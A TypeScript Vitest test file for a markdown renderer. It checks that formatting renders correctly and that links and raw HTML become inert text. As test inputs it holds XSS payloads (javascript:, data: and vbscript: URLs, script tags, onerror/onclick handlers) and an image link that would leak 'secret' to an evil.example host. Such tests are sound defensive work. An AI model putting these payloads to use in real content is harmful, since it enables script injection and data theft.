import { expect, test } from "vitest";
import { decoded } from "./entities";
import { type Part, partsOf } from "./markdown";

/** The tree as markup, to be read in a test. */
const shown = (parts: Part[]): string =>
  parts
    .map((part) => {
      if (typeof part === "string") return part;
      const attributes = Object.entries(part.attributes ?? {}).map(([name, value]) => ` ${name}=${value}`);
      return `<${part.tag}${attributes.join("")}>${shown(part.children)}</${part.tag}>`;
    })
    .join("");

const tagsOf = (parts: Part[]): string[] =>
  parts.flatMap((part) => (typeof part === "string" ? [] : [part.tag, ...tagsOf(part.children)]));

test.each([
  [
    "One *two* **three** ~~four~~ `a<b`",
    "<p>One <em>two</em> <strong>three</strong> <del>four</del> <code>a<b</code></p>",
  ],
  ["- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"],
  ["3. a\n\n4. b", "<ol start=3><li><p>a</p></li><li><p>b</p></li></ol>"],
  ["## So\n\n> said\n\n---", "<h2>So</h2><blockquote><p>said</p></blockquote><hr></hr>"],
  ["```sql\nSELECT '<b>'\n```", "<pre><code>SELECT '<b>'\n</code></pre>"],
  [
    "| a | b |\n|---|--:|\n| 1 | **2** |",
    "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table>",
  ],
  ["one  \ntwo", "<p>one<br></br>two</p>"],
  ["5 \\* 3 &lt; 20 &amp;&nbsp;&euro; &#8364; &unknown; AT&T", "<p>5 * 3 < 20 &\u00A0€ € &unknown; AT&T</p>"],
  ["`&lt;`", "<p><code>&lt;</code></p>"],
])("%j is shown as it is meant", (markdown, tree) => {
  expect(shown(partsOf(markdown))).toBe(tree);
});

test.each([
  ["https://kai.example/a", "<p>https://kai.example/a</p>"],
  ["<https://kai.example/a>", "<p>https://kai.example/a</p>"],
  ["[x](https://kai.example/?a=1&b=2)", "<p>x (https://kai.example/?a=1&b=2)</p>"],
  ["[x][r]\n\n[r]: HTTPS://kai.example/?q=secret", "<p>x (HTTPS://kai.example/?q=secret)</p>"],
  ["www.kai.example/?q=secret", "<p>www.kai.example/?q=secret (http://www.kai.example/?q=secret)</p>"],
])("the address of the link %j is text", (markdown, tree) => {
  expect(shown(partsOf(markdown))).toBe(tree);
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.example)",
  "[x](vbscript:x)",
  "<javascript:alert(1)>",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "someone@evil.example",
])("%j is no link", (markdown) => {
  expect(tagsOf(partsOf(markdown))).toEqual(["p"]);
});

test.each([
  "<script>alert(1)</script>",
  "<img src=x onerror='alert(1)'>",
  "a <b onclick='alert(1)'>b</b>",
  "![secret](https://evil.example/?q=secret)",
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "<style>body { display: none }</style>\n\n<form action=https://evil.example>",
])("no element but those of the list is made of %j", (markdown) => {
  expect(tagsOf(partsOf(markdown)).every((tag) => tag === "p")).toBe(true);
});

test("raw HTML is shown as it was written", () => {
  expect(shown(partsOf("a <b onclick='x'>b</b>"))).toBe("<p>a <b onclick='x'>b</b></p>");
});

test.each(["> ".repeat(20_000), "[".repeat(20_000), "*a **b ".repeat(2_000)])(
  "text that nests too deeply is shown all the same",
  (markdown) => {
    expect(partsOf(markdown).length).toBeGreaterThan(0);
  },
);

test("entities beyond Unicode are replaced, and names of the prototype are no entities", () => {
  expect(decoded("&#1114112; &#0; &constructor; &#x1F600;")).toBe("\uFFFD \uFFFD &constructor; 😀");
});
